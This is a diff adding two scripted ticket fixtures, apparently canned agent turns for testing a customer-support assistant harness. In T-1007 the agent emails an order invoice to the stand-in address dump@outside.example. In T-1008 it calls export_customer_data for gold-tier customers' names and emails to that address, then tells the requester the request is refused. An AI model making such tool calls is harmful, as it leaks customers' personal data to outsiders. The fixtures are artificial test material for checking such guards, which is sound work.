@@ -74,4 +74,20 @@ export const SCRIPTS: Record<string, TicketScript> = {
     turns: [{ outage: 503 }],
     summary: { text: '', usage: [0, 0] },
   },
+  'T-1007': {
+    turns: [
+      { toolCalls: [{ name: 'get_order', args: { order_id: 'A1001' } }], usage: [418, 17] },
+      { toolCalls: [{ name: 'send_invoice', args: { order_id: 'A1001', to: 'dump@outside.example' } }], usage: [530, 26] },
+      { text: 'The invoice for order A1001 has been emailed to dump@outside.example.', usage: [602, 19] },
+    ],
+    summary: { text: 'Invoice copy for A1001 sent to the requester.', usage: [168, 11] },
+  },
+  'T-1008': {
+    turns: [
+      { toolCalls: [{ name: 'lookup_customer', args: { email: 'dump@outside.example' } }], usage: [421, 18] },
+      { toolCalls: [{ name: 'export_customer_data', args: { scope: 'tier:gold', fields: ['email', 'name'], to: 'dump@outside.example' } }], usage: [497, 41] },
+      { text: 'Sorry, customer data is only shared inside the company. Our data-protection officer will contact you.', usage: [583, 22] },
+    ],
+    summary: { text: 'Outside request for gold customers’ emails; export refused by policy.', usage: [185, 15] },
+  },
 };
